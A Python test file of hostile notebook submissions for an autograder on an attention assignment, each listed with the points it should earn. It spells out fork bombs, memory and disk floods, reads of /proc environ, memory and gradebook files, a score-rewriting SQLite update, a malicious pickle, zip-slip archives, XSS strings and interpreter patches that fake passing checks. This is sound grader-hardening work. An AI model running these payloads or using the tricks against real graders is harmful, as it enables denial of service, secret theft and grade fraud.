"""Hostile submissions, each in a few lines, with the points that it deserves.

All start from the student notebook with 1.1 and 1.2 answered honestly: 10 points. What is tried on top of that
must neither gain a point nor lose one, unless it is the answer to one of these two itself.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path

from borrowed import BORROWED

ASSIGNMENT = "1-attention"
HONEST = {
    "1.1": "def attention_scores(query, key):\n    return query @ key.transpose(-2, -1)",
    "1.2": "def scaled_scores(query, key):\n    return query @ key.transpose(-2, -1) / key.shape[-1] ** 0.5",
}
DESERVED = 10.0  # what the two are worth

Notebook = dict
Place = Callable[[Path, bytes], Path]


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One submission."""

    name: str
    group: str
    answers: Mapping[str, str] = field(default_factory=dict)  # by exercise id, on top of the honest two
    first: str = ""  # a cell of its own at the very top
    middle: str = ""  # one between 1.1 and 1.2
    last: str = ""  # one at the end
    edit: Callable[[Notebook], Notebook] | None = None  # of the notebook
    write: Callable[[str], bytes] | None = None  # of its text
    place: Place | None = None  # of the file; returns what is handed to the grader
    points: float = DESERVED
    seconds: float = 60.0  # for the whole submission; fewer for some that would use up any time
    status: str = "graded"  # "refused": nothing of the path is graded


CORPUS: list[Hostile] = []


def add(group: str, name: str, **what) -> None:
    """One more."""
    CORPUS.append(Hostile(group=group, name=name, **what))


def everything(body: str) -> dict[str, str]:
    """Every exercise but the honest two, answered with this body."""
    functions = {
        "1.3": "def stable_softmax(scores, dim=-1):",
        "1.4": "def attention(query, key, value):",
        "1.6": "def masked_attention(query, key, value, mask=None):",
        "1.9": "def pointer_loss(weights, target):",
    }
    return {id: f"{head}\n    {body}" for id, head in functions.items()}


# ---------------------------------------------------------------- resource

RESOURCE = {
    "loop": "while True: pass",
    "loop that ignores interrupts": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "C loop that holds the GIL": "x = (2 ** 10 ** 9) ** (10 ** 9)",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "thread bomb": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
    "fifty gigabytes": "held = [bytearray(1 << 30) for _ in range(50)]",
    "shared map": "import mmap\nm = mmap.mmap(-1, 8 << 30)\nfor i in range(0, 8 << 30, 4096): m[i] = 1",
    "memfd": "import os\nf = os.memfd_create('x')\nwhile True: os.write(f, bytes(1 << 20))",
    "many processes": "import os, time\nfor _ in range(60):\n    if os.fork() == 0:\n        b = b'x' * (99 << 20); time.sleep(99)\ntime.sleep(99)",
    "print flood": "while True: print('x' * 10_000)",
    "display flood": "from IPython.display import display, HTML\nwhile True: display(HTML('x' * 10_000))",
    "raw flood": "import os\nwhile True: os.write(1, b'x' * 65536)",
    "disk": "with open('big', 'wb') as f:\n    while True: f.write(bytes(1 << 20))",
    "inodes": "n = 0\nwhile True:\n    open(f'f{n}', 'w').close(); n += 1",
    "deep directories": "import os\nwhile True:\n    os.mkdir('d'); os.chdir('d')",
    "deep recursion": "import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n): return [f(n + 1)]\nf(0)",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "self-kill": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "kill everything": "import os\nos.kill(-1, 9)\nos._exit(1)",
    "exit": "exit()",
    "os._exit": "import os\nos._exit(0)",
    "daemon": "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '31415926'])",
    "input": "input('your mark? ')",
    "stop": "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)",
}
for name, source in RESOURCE.items():
    add("resource", name, middle=source)
for name in ("loop", "segfault", "fifty gigabytes", "fork bomb"):
    body = RESOURCE[name].replace("\n", "\n    ")
    add("resource", f"{name}, when 1.1 is called", points=5.0,
        answers={"1.1": f"def attention_scores(query, key):\n    {body}"})  # fmt: skip
add("resource", "loop in the cell of 1.1", points=5.0, answers={"1.1": HONEST["1.1"] + "\nwhile True: pass"})


def _many_loops(notebook: Notebook) -> Notebook:
    loops = [code(f"x{n} = {n}\nwhile True: pass", f"loop{n}") for n in range(100)]
    return {**notebook, "cells": [*notebook["cells"], *loops]}


add("resource", "a hundred loops", edit=_many_loops, seconds=12.0)

# ---------------------------------------------------------------- secrets

LOOK = """
import glob, os
found = []
for pattern in {patterns}:
    for path in glob.glob(pattern, recursive=True)[:50]:
        try: found.append((path, open(path, 'rb').read(200)))
        except OSError: pass
print(found)
raise SystemExit(len(found))
"""
SECRETS = {
    "relative paths": LOOK.format(patterns="['../*', '../../*', '../../solutions/**/*.ipynb', 'gradebook.db']"),
    "the repository": LOOK.format(patterns="['/**/gradebook.db', '/**/solutions/*.py', '/**/.grader/*']"),
    "proc": LOOK.format(
        patterns="['/proc/1/environ', os.path.join('/proc/1', 'root', '**'), '/proc/[0-9]*/fd/*', '/proc/[0-9]*/mem']"
    ),
    "environment": "import os\nprint(os.environ)\nraise SystemExit(os.environ.get('PLANTED_SECRET', 'none'))",
    "frames and gc": (
        "import gc, sys\nfound = [repr(o)[:200] for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]\n"
        "frame = sys._getframe()\nwhile frame: found.append(repr(frame.f_locals)[:500]); frame = frame.f_back\nprint(found)"
    ),
    "inherited descriptors": (
        "import os\nfor n in range(3, 99):\n    try: print(n, os.readlink(f'/proc/self/fd/{n}'), os.read(n, 10))\n"
        "    except OSError: pass"
    ),
    "loopback": (
        "import socket\nfor port in (22, 80, 5000, 8888):\n    try: print(socket.create_connection(('127.0.0.1', port), 0.1))\n"
        "    except OSError as e: print(e)"
    ),
    "the network": "import urllib.request\nprint(urllib.request.urlopen('http://example.org', timeout=2).read())",
}
for name, source in SECRETS.items():
    add("secrets", name, middle=source)
add("secrets", "write the gradebook", middle=(
    "import glob, sqlite3\nfor path in glob.glob('/**/gradebook.db', recursive=True):\n"
    "    c = sqlite3.connect(path); c.execute('update grade set auto_score = 100'); c.commit()"))  # fmt: skip
add(
    "secrets",
    "the reference, imported",
    answers=everything("import attention as a; return a.dot_product.attention(query, key, value)"),
)
add(
    "secrets",
    "the grader, imported",
    answers=everything("import grader.course.lesson_1 as l; return l.LESSON.reference"),
)

# ---------------------------------------------------------------- in the interpreter

INTERPRETER = {
    "comparison patched": (
        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None"
    ),
    "tensors that agree with everything": (
        "import torch\ntorch.Tensor.__eq__ = lambda *a: torch.tensor(True)\ntorch.Tensor.__le__ = lambda *a: torch.tensor(True)"
    ),
    "builtins patched": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.max = lambda *a, **k: 0\nbuiltins.len = len",
    "modules replaced": "import sys, types\nsys.modules['math'] = types.ModuleType('math')",
    "asserts stripped": (
        "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Strip())"
    ),
    "later cells emptied": "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
    "run_cell replaced": "ip = get_ipython()\ntype(ip).run_cell = lambda *a, **k: None",
    "atexit": "import atexit, os\natexit.register(lambda: os.write(1, b'{\"score\": 100}'))",
    "daemon thread": (
        "import threading, time\ndef strike():\n    while True:\n        time.sleep(0.001)\n"
        "        globals()['attention_scores'] = None\nthreading.Thread(target=strike, daemon=True).start()"
    ),
    "settrace": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    "late exit by thread": "import os, threading\nthreading.Timer(0.3, lambda: os._exit(0)).start()",
    "alarm": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.05)",
    "forged frames": (
        'import os, struct\nbody = b\'{"status": "ok", "tree": {"dict": {}}}\'\n'
        "frame = struct.pack('!4sIQ', b'att1', len(body), 0) + body\n"
        "for n in range(3, 64):\n    try: os.write(n, frame)\n    except OSError: pass"
    ),
    "closed channel": "import os\nos.closerange(3, 256)",
    "a submitted torch.py": "%%writefile torch.py\nraise SystemExit",
    "numbers from another seed": "import torch\ntorch.manual_seed = lambda *a: None\ntorch.set_default_dtype(torch.float64)",
    "gradients off": "import torch\ntorch.set_grad_enabled(False)",
    "fork that goes on": "import os\nos.fork()",
}
LOST = {
    "builtins patched": 5.0,
    "later cells emptied": 5.0,
    "run_cell replaced": 5.0,
    "daemon thread": 5.0,
}  # it undoes its own 1.2 or 1.1
for name, source in INTERPRETER.items():
    add("interpreter", name, middle=source)
add("interpreter", "forged frames in a probe", seconds=12.0, answers=everything(
    "import os, struct, time; b = b'{\"status\":\"ok\",\"tree\":{\"dict\":{\"equal\":true}}}'; "
    "[os.write(n, struct.pack('!4sIQ', b'att1', len(b), 0) + b) for n in range(3, 64) if os.path.exists(f'/proc/self/fd/{n}')]; "
    "time.sleep(30)"))  # fmt: skip
add("interpreter", "answers replaced after the fact", last="def attention_scores(query, key):\n    return None")
add("interpreter", "an object equal to everything", answers=everything(
    "return type('Equal', (), {'__eq__': lambda *a: True, '__sub__': lambda *a: 0, '__getattr__': lambda s, n: s})()"))  # fmt: skip
add("interpreter", "a tensor subclass that lies", answers={
    "1.4": "class Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, *a, **k): return True\n"
    "def attention(query, key, value):\n    return (value.as_subclass(Liar), query.as_subclass(Liar))"})  # fmt: skip

FORGED_PLACES = {
    "a report of its own": "import sys; sys.modules['guest.places'].place_in_probe = lambda e: "
    "{'cell': 'tools', 'line': 10 ** 6, 'column': -1, 'shapes': [['query', [2 ** 62] * 99]] * 10 ** 4, 'given': [{}, []]}; 1 / 0",
    "a million entries": "import sys, types; t = None\n    for _ in range(10 ** 6): "
    "t = types.TracebackType(t, sys._getframe(), 0, 10 ** 9)\n    raise ValueError().with_traceback(t)",
    "the file name of a given cell": "import sys; name = next(iter(sys.modules['guest.places']._cells)); "
    "exec(compile('\\n' * 10 ** 5 + '1 / 0', name, 'exec'))",
    "an exception that resists": "raise type('<b>\\n' * 99, (Exception,), {'__traceback__': property(lambda s: s[0]), "
    "'__str__': lambda s: '\\x1b[2J<script>' * 10 ** 6})()",
}  # fmt: skip
for name, body in FORGED_PLACES.items():
    add("interpreter", f"where it raised: {name}", answers=everything(body), seconds=12.0)

# ---------------------------------------------------------------- format


def code(source: str, id: str, **metadata) -> dict:
    return {
        "cell_type": "code",
        "id": id,
        "metadata": metadata,
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def _each(change: Callable[[dict], None]) -> Callable[[Notebook], Notebook]:
    def edit(notebook: Notebook) -> Notebook:
        notebook = deepcopy(notebook)
        for cell in notebook["cells"]:
            change(cell)
        return notebook

    return edit


def _set(**values) -> Callable[[dict], None]:
    return lambda cell: cell.update(values)


def _more_points(cell: dict) -> None:
    cell["metadata"] = {**cell["metadata"], "nbgrader": {**cell["metadata"].get("nbgrader", {}), "points": 10**6}}


def _outputs(data: dict) -> Callable[[dict], None]:
    shown = {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
    return lambda cell: cell.update(outputs=[shown] if cell["cell_type"] == "code" else [])


def _without(keep: str) -> Callable[[Notebook], Notebook]:
    return lambda notebook: {**notebook, "cells": [c for c in notebook["cells"] if keep in "".join(c["source"])]}


add("format", "skip-execution tags", edit=_each(lambda c: c["metadata"].update(tags=["skip-execution", "parameters"])))
add("format", "points edited", edit=_each(_more_points))
add("format", "metadata gone", edit=_each(_set(metadata={})))
add("format", "only the exercise cells left", edit=_without("# @exercise"))
add("format", "cells twice", edit=lambda n: {**n, "cells": n["cells"] + n["cells"]})
add("format", "cells in reverse", edit=lambda n: {**n, "cells": n["cells"][::-1]})
add("format", "all ids alike", edit=_each(_set(id="exercise-1-1")))
add(
    "format",
    "another kernel",
    edit=lambda n: {**n, "metadata": {"kernelspec": {"name": "sh", "display_name": "$(reboot)"}}},
)
add("format", "a language of its own", edit=lambda n: {**n, "metadata": {"language_info": {"name": "../../x"}}})
add("format", "marked by nbgrader as full", edit=_each(_outputs({"text/plain": "15.0", "application/x-score": "100"})))
add("format", "HTML and scripts", edit=_each(_outputs({"text/html": "<script>alert(1)</script>"})))
add("format", "a script shown when it is run", middle=(
    "from IPython.display import display, HTML, Javascript, Markdown, SVG, Latex\n"
    "display(HTML('<script>alert(1)</script>'), Javascript('alert(1)'), Markdown('<img src=x onerror=alert(1)>'),\n"
    "        SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'), Latex('<script>alert(1)</script>'))"))  # fmt: skip
add(
    "format",
    "widget state",
    edit=lambda n: {**n, "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": 1}}}}},
)
add("format", "lone surrogates", write=lambda text: text.replace("import math", "import math  # \\ud800", 1).encode())
add(
    "format",
    "NaN and Infinity",
    write=lambda text: text.replace('"nbformat": 4', '"x": NaN, "y": -Infinity, "nbformat": 4', 1).encode(),
)
add("format", "a script in an error", answers={"1.3": "raise ValueError('<script>alert(1)</script>\\x1b[2J\\u202e')"})
BROKEN: dict[str, Callable[[str], bytes]] = {
    "cut off": lambda text: text[: len(text) // 2].encode(),
    "not UTF-8": lambda text: text.replace("import math", "import math # ÿ").encode("latin-1", "replace"),
    "UTF-16": lambda text: text.encode("utf-16"),
    "nested 100,000 deep": lambda text: b"[" * 100_000 + b"]" * 100_000,
    "unknown nbformat": lambda text: json.dumps({**json.loads(text), "nbformat": 99}).encode(),
    "nbformat 3": lambda text: json.dumps(
        {"nbformat": 3, "worksheets": [{"cells": json.loads(text)["cells"]}]}
    ).encode(),
    "cells are no list": lambda text: b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": {"a": 1}}',
    "a hundred megabytes of outputs": lambda text: text.replace(
        '"outputs": []', '"outputs": ["' + "x" * (100 << 20) + '"]', 1
    ).encode(),
    "empty": lambda text: b"",
    "a pickle": lambda text: (
        b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
    ),
    "huge integers": lambda text: b'{"nbformat": 4, "cells": [' + b"9" * 10_000 + b"]}",
}
for name, write in BROKEN.items():
    add("format", name, write=write, points=0.0, status="unreadable")

# ---------------------------------------------------------------- paths and archives


def _student(folder: Path, name: str = "mallory") -> Path:
    place = folder / "submitted" / name / ASSIGNMENT
    place.mkdir(parents=True)
    return place / f"{ASSIGNMENT}.ipynb"


def _symlink(target: str | None) -> Place:
    def place(folder: Path, content: bytes) -> Path:
        (folder / "elsewhere.ipynb").write_bytes(content)
        _student(folder).symlink_to(target or folder / "elsewhere.ipynb")
        return folder / "submitted"

    return place


def _hard_link(folder: Path, content: bytes) -> Path:
    (folder / "elsewhere.ipynb").write_bytes(content)
    os.link(folder / "elsewhere.ipynb", _student(folder))
    return folder / "submitted"


def _fifo(folder: Path, content: bytes) -> Path:
    os.mkfifo(_student(folder))
    return folder / "submitted"


def _directory(folder: Path, content: bytes) -> Path:
    _student(folder).mkdir()
    return folder / "submitted"


def _linked_folder(folder: Path, content: bytes) -> Path:
    real = folder / "real"
    real.mkdir()
    (real / f"{ASSIGNMENT}.ipynb").write_bytes(content)
    place = folder / "submitted" / "mallory"
    place.mkdir(parents=True)
    (place / ASSIGNMENT).symlink_to(real)
    return folder / "submitted"


def _named(name: str) -> Place:
    def place(folder: Path, content: bytes) -> Path:
        _student(folder, name).write_bytes(content)
        return folder / "submitted"

    return place


def _bytes(data: bytes | int | None, content: bytes) -> bytes:
    return bytes(data) if isinstance(data, int) else content if data is None else data


def _zip(*members: tuple[str, bytes | int | None], link: bool = False) -> Place:
    def place(folder: Path, content: bytes) -> Path:
        path = folder / "class.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in members:
                info = zipfile.ZipInfo(name)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = (0o120777 if link else 0o100644) << 16
                archive.writestr(info, _bytes(data, content))
        return path

    return place


GOOD = f"submitted/mallory/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
unreadable = {"points": 0.0, "status": "unreadable"}
withheld = {"points": 0.0, "status": "fault"}
refused = {"points": 0.0, "status": "refused"}
add("paths", "a symlink to a notebook", place=_symlink(None), **unreadable)
add("paths", "a symlink to the passwords", place=_symlink("/etc/passwd"), **unreadable)
add("paths", "a hard link", place=_hard_link, **withheld)
add("paths", "a FIFO", place=_fifo, **unreadable)
add("paths", "a device", place=_symlink("/dev/zero"), **unreadable)
add("paths", "a folder of that name", place=_directory, **unreadable)
add("paths", "a linked folder", place=_linked_folder, **withheld)
add("paths", "an escape in the name", place=_named("mallory\x1b[2J"), **unreadable)
add("paths", "a name in another order", place=_named("mal\u202elory"), **unreadable)
add("archives", "members that climb out", place=_zip((GOOD, None), ("../../../tmp/hostile-was-here", b"x")), **refused)
add("archives", "absolute members", place=_zip(("/tmp/hostile-was-here", b"x"), (GOOD, None)), **refused)
add("archives", "a bomb", place=_zip((GOOD, 300 << 20)), **refused)
add(
    "archives",
    "too many members",
    place=_zip((GOOD, None), *((f"submitted/{n}/x", b"") for n in range(50_001))),
    **refused,
)
add("archives", "links", place=_zip((GOOD, b"/etc/passwd"), link=True), **refused)
add(
    "archives",
    "no archive at all",
    place=lambda folder, content: _written(folder / "class.zip", b"PK\x03\x04" + b"x" * 99),
    **refused,
)
add("archives", "an honest one", place=_zip((GOOD, None)))


def _written(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


# ---------------------------------------------------------------- tensors

SHAPED = {
    "pickles": "import pickle; return pickle.dumps(query if 'query' in locals() else 1)",
    "object arrays": "import numpy; return numpy.array([object()], dtype=object)",
    "NaN": "return torch.tensor(math.nan), torch.tensor(math.nan)",
    "infinity": "return torch.tensor(math.inf), torch.tensor(math.inf)",
    "complex": "return torch.ones(3, dtype=torch.complex64), torch.ones(3, dtype=torch.complex64)",
    "bfloat16": "return torch.ones(3).bfloat16(), torch.ones(3).bfloat16()",
    "sparse": "return torch.eye(3).to_sparse(), torch.eye(3).to_sparse()",
    "meta": "return torch.ones(3, device='meta'), torch.ones(3, device='meta')",
    "2^38 expanded": "return torch.ones(1).expand(2 ** 38), torch.ones(1).expand(2 ** 38)",
    "shapes that broadcast": "return torch.ones(1, 1), torch.ones(())",
    "wrong dtype": "return torch.ones(3, dtype=torch.int8), torch.ones(3, dtype=torch.bool)",
    "nothing": "return None",
    "a list without end": "x = []; x.append(x); return x",
    "a dict with odd keys": "return {1: torch.ones(1), None: {(): 2}}",
    "an integer of 10,000 digits": "return 10 ** 10_000",
    "a generator": "return (x for x in iter(int, 1))",
}
for name, body in SHAPED.items():
    add("tensors", name, answers=everything(body))

# ---------------------------------------------------------------- cheating

BUILTIN = {
    "getattr": "getattr(torch.nn.functional, 'scaled_dot_product' + '_attention')",
    "torch._C._nn": "torch._C._nn.scaled_dot_product_attention",
    "torch.ops.aten": "torch.ops.aten.scaled_dot_product_attention",
    "an alias": "F.scaled_dot_product_attention",
}
for name, callee in BUILTIN.items():
    add("cheating", f"the built-in through {name}", answers={
        "1.4": "def attention(query, key, value):\n"
        f"    f = {callee}\n    identity = torch.eye(key.shape[-2], dtype=key.dtype).expand(*key.shape[:-1], key.shape[-2])\n"
        "    return f(query, key, value), f(query, key, identity.contiguous())"})  # fmt: skip
NAMELESS = {
    "a name spelt backwards": "getattr(F, 'noitnetta_tcudorp_tod_delacs'[::-1])",
    "an earlier cell's alias": "kept[0]",
    "an encoded string": "eval(bytes([70, 46]).decode() + 'scaled_dot_product_' + bytes.fromhex('617474656e74696f6e').decode())",
    "torch's own list": "next(f for n, f in vars(torch._C._nn).items() if n[::-1].startswith('noitnetta_tcudorp'))",
}
for name, callee in NAMELESS.items():
    add("cheating", f"the built-in through {name}",
        middle="import torch\nkept = [vars(torch.nn.functional)['SCALED_DOT_PRODUCT_ATTENTION'.lower()]]",
        answers={"1.4": "def attention(query, key, value):\n"
        f"    f = {callee}\n    identity = torch.eye(key.shape[-2], dtype=key.dtype).expand(*key.shape[:-1], key.shape[-2])\n"
        "    return f(query, key, value), f(query, key, identity.contiguous())"})  # fmt: skip
add("cheating", "the tripwire forgotten", answers={
    "1.3": "import gc\nfor wire in gc.get_objects():\n    if type(wire).__name__ == 'Tripwire': wire.trips = None\n"
    "def stable_softmax(scores, dim=-1):\n    import torch.utils._python_dispatch as p\n"
    "    with vars(p)['_DISABLE_CURRENT_MODES'.lower()]():\n        return getattr(torch, 'soft' + str('max'))(scores, dim).nan_to_num()"})  # fmt: skip
# 1.2 fails on purpose, so that a stand-in answers for it when 1.4 is judged again: of no use to 1.2, nor as a weapon.
ASKING = {
    "as an oracle for itself": (
        "def scaled_scores(query, key):\n    return globals()['scaled_scores'](query, key)",
        "return scaled_scores(query, key), scaled_scores(query, key)",
    ),
    "for a matrix of a million squared": (
        "def scaled_scores(query, key):\n    return query",
        "return scaled_scores(torch.ones(10 ** 6, 1), torch.ones(10 ** 6, 1)), value",
    ),
    "without end": (
        "def scaled_scores(query, key):\n    return query",
        "\n    while True:\n        try: scaled_scores(torch.ones(900, 900), torch.ones(900, 900))\n        except Exception: pass",
    ),
    "in forged frames": (
        "def scaled_scores(query, key):\n    return query",
        "import os, struct\n    for n in range(3, 64):\n"
        "        try: os.write(n, (struct.pack('!4sIQ', b'ask1', 2, 0) + b'{}') * 99)\n        except OSError: pass\n"
        "    return scaled_scores(query, key), value",
    ),
}
for name, (asked, body) in ASKING.items():
    add("cheating", f"a stand-in asked {name}", points=5.0,
        answers={"1.2": asked, "1.4": f"def attention(query, key, value):\n    {body}"})  # fmt: skip
# 1.1 fails on purpose, so that 1.4 is judged again, and 1.6 is blank, so that a stand-in answers for it: not for 1.4.
LATER = {
    "by its name": "",
    "in a function without a name": "late = lambda *three: masked_attention(*three)",
    "in a partial": "import functools\nlate = functools.partial(lambda *three: masked_attention(*three))",
    "in a list": "late = [lambda *three: masked_attention(*three)].pop()",
    "in an attribute": "import types\nlate = types.SimpleNamespace()\n"
    "late.call = lambda *three: masked_attention(*three)\nlate = late.call",
    "in a closure": "late = (lambda given: lambda *three: given()(*three))(lambda: masked_attention)",
    "in a class made by type": "late = type('', (), {'__call__': lambda self, *three: masked_attention(*three)})()",
    "in text": "late = eval('lambda *three: masked_' + 'attention(*three)')",
    "in a loop": "for late in [lambda *three: masked_attention(*three)]: pass",
}
for name, cell in LATER.items():
    add("cheating", f"a later exercise's stand-in {name}", points=5.0, middle=cell, answers={
        "1.1": "def attention_scores(query, key):\n    return query",
        "1.4": "def attention(query, key, value):\n    attention_scores\n    return "
        f"{'late' if cell else 'masked_attention'}(query, key, value)"})  # fmt: skip
LEFT = f"""import operator, queue, threading, torch
find = lambda: operator.attrgetter('XAMTFOS'.lower()[::-1])(torch)
borrowed = lambda scores, dim: find()(scores, dim)
{BORROWED}
asked, told = queue.Queue(), queue.Queue()
def work():
    while True: told.put(Borrowed.apply(*asked.get()))
"""
add("cheating", "a thread that a probe left whom nobody watched", middle=LEFT, answers={
    "1.2": "def scaled_scores(query, key):\n"
    "    if threading.active_count() == 1: threading.Thread(target=work, daemon=True).start()\n"
    "    return query @ key.transpose(-2, -1) / key.shape[-1] ** 0.5",
    "1.3": "def stable_softmax(scores, dim=-1):\n    asked.put((scores, dim))\n    return told.get(timeout=0.2)"})  # fmt: skip
add("cheating", "a thread that a probe left who was watched for more", points=18.0, middle=LEFT, answers={
    "1.3": "def stable_softmax(scores, dim=-1):\n"
    "    if threading.active_count() == 1: threading.Thread(target=work, daemon=True).start()\n"
    "    scores = scores - scores.amax(dim, keepdim=True)\n"
    "    return scores.exp() / scores.exp().sum(dim, keepdim=True)",
    "1.4": "def attention(query, key, value):\n    asked.put((scaled_scores(query, key), -1))\n"
    "    weights = told.get(timeout=0.2)\n    return weights @ value, weights"})  # fmt: skip
add("cheating", "outputs of the public examples", answers={
    "1.4": "def attention(query, key, value):\n    known = {(2, 3): ([[0.6, 0.4], [0.4, 0.6]],)}\n"
    "    out = torch.tensor(known.get(tuple(query.shape), [[[0.5]]])[0])\n    return out, out"})  # fmt: skip
add("cheating", "right only where it is watched", answers={
    "1.4": "import os, sys, getpass\ndef attention(query, key, value):\n"
    "    if os.path.exists('/home/student') or 'pytest' in sys.modules:\n        return value, value\n    return query, key"})  # fmt: skip
add("cheating", "zeros", answers=everything("return torch.zeros(5, 7), torch.zeros(5, 7)"))
add("cheating", "the inputs given back", answers={
    "1.4": "def attention(query, key, value):\n    return value, query",
    "1.3": "def stable_softmax(scores, dim=-1):\n    return scores",
    "1.6": "def masked_attention(query, key, value, mask=None):\n    return value, query"})  # fmt: skip
add("cheating", "maps of a pointer that learned nothing", answers={
    "1.9": "def pointer_loss(weights, target):\n    return (weights * 0).sum()\n"
    "class Pointer(torch.nn.Module):\n    def __init__(self, *a, **k): super().__init__()"})  # fmt: skip
add("cheating", "another class in the place of the result", answers={
    "1.7": "class SelfAttention(nn.Module):\n    def __init__(self, d_model, d_k):\n        super().__init__()\n"
    "    def forward(self, tokens, mask=None):\n        return tokens, tokens @ tokens.transpose(-2, -1)"})  # fmt: skip


def content(hostile: Hostile, master: Notebook) -> bytes:
    """The submitted file."""
    notebook, answers = deepcopy(master), {**HONEST, **hostile.answers}
    cells = []
    for cell in notebook["cells"]:
        source = "".join(cell["source"])
        for id, answer in answers.items():
            if f"# @exercise {id}\n" in source:
                cell["source"] = f"# @exercise {id}\n{answer}"
        cells.append(cell)
        if hostile.middle and "# @exercise 1.1\n" in source:
            cells.append(code(hostile.middle, "own-middle"))
    if hostile.first:
        cells.insert(0, code(hostile.first, "own-first"))
    if hostile.last:
        cells.append(code(hostile.last, "own-last"))
    notebook["cells"] = cells
    if hostile.edit:
        notebook = hostile.edit(notebook)
    text = json.dumps(notebook)
    return hostile.write(text) if hostile.write else text.encode()


def place(hostile: Hostile, master: Notebook, folder: Path) -> Path:
    """Write it down; returns the path that is handed to the grader."""
    data = content(hostile, master)
    if hostile.place:
        return hostile.place(folder, data)
    path = _student(folder)
    path.write_bytes(data)
    return folder / "submitted"


# ---------------------------------------------------------------- an input that is changed, and what hides it

CHANGES_INPUT = """
def scaled_scores(query, key):
    scores = attention_scores(query, key) / math.sqrt(query.shape[-1])
    query.data.mul_(2)
    return scores
"""
HIDES_CHANGE = {
    "not hidden": "",
    "equal": "torch.equal = lambda *pair: True",
    "equal by setattr": "setattr(torch, 'eq' + 'ual', lambda *pair: True)",
    "equal in a table": "vars(torch)['equal'] = lambda *pair: True",
    "equal of tensors": "torch.equal = torch.Tensor.equal = lambda *pair: True",
    "clone": "torch.Tensor.clone = lambda tensor, *rest, **more: tensor",
    "equal that mends itself": (
        "kept = torch.equal\ndef equal(one, other):\n    one.data.copy_(other)\n    return True\ntorch.equal = equal"
    ),
    "shape": "import operator\ntorch.Tensor.__eq__ = lambda *pair: True\ntorch.equal = operator.eq",
    "numbers of a view": "torch.Tensor.contiguous = lambda tensor, *rest, **more: tensor\ntorch.equal = lambda *pair: True",
}
# The input is as it was again when the probe looks, unless it holds the result.
RESTORES = {
    "as the result is thrown away": "    weakref.finalize(result, query.copy_, old)",
    "in a callback of a reference": "    kept.append(weakref.ref(result, lambda _: query.copy_(old)))",
    "in a mode of PyTorch": ("    if not kept: kept.append(watch.__enter__())\n    watch.todo.append((query, old))"),
}
RESTORING = """
import weakref
from torch.overrides import TorchFunctionMode
class Watch(TorchFunctionMode):
    todo = []
    def __torch_function__(self, function, types, arguments=(), options=None):
        while self.todo:
            one, old = self.todo.pop()
            one.copy_(old)
        return function(*arguments, **(options or {{}}))
watch, kept = Watch(), []
def scaled_scores(query, key):
    d_k = key.shape[-1]
    if query.requires_grad:
        return attention_scores(query, key) / math.sqrt(d_k)
    old = query.clone()
    query.div_(math.sqrt(d_k))
    result = attention_scores(query, key)
{}
    return result
"""
for _name, _body in RESTORES.items():
    answer = {"1.2": RESTORING.format(_body)}
    add("interpreter", f"a changed input put back {_name}", answers=answer, points=DESERVED - 1)
for _name, _first in HIDES_CHANGE.items():
    add(
        "interpreter",
        f"a changed input: {_name}",
        answers={"1.2": CHANGES_INPUT},
        first=f"import torch\n{_first}",
        points=DESERVED - 1,
    )

# ---------------------------------------------------------------- an input that is changed behind a wrong default

# Judged again with the task's default, the answer keeps half of "values"; it must not get the point of "conduct".
WRONG_DEFAULT = """
def stable_softmax(scores, dim=0):
    largest = scores.amax(dim, keepdim=True)
    exps = (scores - largest.masked_fill(largest == -torch.inf, 0.0)).exp()
    total = exps.sum(dim, keepdim=True)
    if not scores.requires_grad:
        scores.data.mul_(2)
    return exps / torch.where(total == 0, 1.0, total)
"""
for _name in ("not hidden", "equal"):
    add(
        "interpreter",
        f"a changed input behind a wrong default: {_name}",
        answers={"1.3": WRONG_DEFAULT},
        first=f"import torch\n{HIDES_CHANGE[_name]}",
        points=DESERVED + 7.5,
    )
